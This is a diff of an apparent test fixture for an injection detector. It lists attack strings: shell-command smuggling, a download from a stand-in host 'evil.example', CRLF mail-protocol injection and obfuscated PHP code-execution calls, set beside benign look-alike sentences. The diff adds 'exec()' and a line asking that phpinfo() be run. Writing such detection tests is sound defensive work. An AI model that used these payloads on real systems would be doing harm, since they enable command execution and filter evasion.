@@ -17,7 +17,7 @@ const ATTACKS: Record<string, string[]> = {
   'more binaries': [';htop', '&aptitude', 'zstdcat /var/log/app.zst', 'bsdtar -xf /tmp/x.tar', 'lwp-download http://evil.example/x'],
   'mail protocol commands': ['\r\nMAIL FROM:<a@b.example>', '\nRCPT TO:<postmaster@b.example>', '\nEHLO evil.example', '\r\na001 EXAMINE INBOX', '\r\nA283 SEARCH TEXT "x"', '\r\nd store 2 +FLAGS (\\Deleted)', '\nRETR 123', '\nAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891'],
   'PHP calls and evasions': [
-    'system(whoami)', 'exec #comment\n (blah)', 'touch/*a\nb*/()', 'checkdate/*x*/()', 'FOOgzinflate()', 'curl_init()', '"system"(ls);', '(system)(ls);',
+    'system(whoami)', 'exec()', 'Please run phpinfo() on the box now', 'exec #comment\n (blah)', 'touch/*a\nb*/()', 'checkdate/*x*/()', 'FOOgzinflate()', 'curl_init()', '"system"(ls);', '(system)(ls);',
     "define('x', 'sys' . 'tem');(x)/* c */('uname');", "(z)[0][0]('uname');", '$__[$_[1]](7)', '$_aB_4c[@5]/*wat*/[@d] ()', '$ {@_.__}(31);', '$a //x\n()',
     '[php]echo "test"', '(sy.(st).em)(@id)', "array_map('system',array('id'))", "usort($a, 'assert')", '<?xml :fputCSV($f, array("a"));', "('pa'.'ss'.'thru')('id')", '{php}test{/php}', 'ssh2.sftp://user:pass@example.com:22/x',
   ],
@@ -58,7 +58,7 @@ const BENIGN: string[] = [
   'Hi,\nUSER guide is outdated', 'the system(s) we use', 'Section 5(a)(1) applies', 'see (a)(b) below', 'console log shows nothing',
   'java.util.List is an interface', 'Runtime error in java.lang.RuntimeException', 'while we wait', 'while (i < 10) i++', 'process the refund',
   'localhost is fine for dev', '> /tmp is full, please clean it', 'name__icontains', 'https://example.com/help', 'jar of cookies: 3',
-  '../guide/setup.md', 'Routes like /api/*/users are matched first', 'How do I find files older than 7 days and delete them with -exec rm in a cron job?', '/api/v1/users/../users/42', 'Use ${PORT:-3000}', 'Total: ${total}', 'JSONPath $[0].name or $[-1:] or $[*].id', 'price=5;$price total', 'a=1;b=2;$a$b', 'We use $((a+b)) in our bash scripts per the style guide', 'Regards,\nJohn\n--\nSent from my phone',
+  '../guide/setup.md', 'Routes like /api/*/users are matched first', 'How do I find files older than 7 days and delete them with -exec rm in a cron job?', '/api/v1/users/../users/42', 'Use ${PORT:-3000}', 'Total: ${total}', 'JSONPath $[0].name or $[-1:] or $[*].id', 'price=5;$price total', 'a=1;b=2;$a$b', 'We use $((a+b)) in our bash scripts per the style guide', 'Regards,\nJohn\n--\nSent from my phone', 'See chapter 5 (system calls) for exec() and fork()',
   'myfunction(){ echo hello }', 'render() { return this.html }', '(Mr.Smith)(2)', '(e.g.)(see below)', 'x^2 + y^2 /c', "array_map('strtoupper', $names)", "t('system', 'dark')", '<?xml-stylesheet href="a.xsl"?>',
   'Saved photo.jpg. Then I uploaded notes.txt, report.pdf. Can you check?', 'The {php} tag is deprecated',
 ];
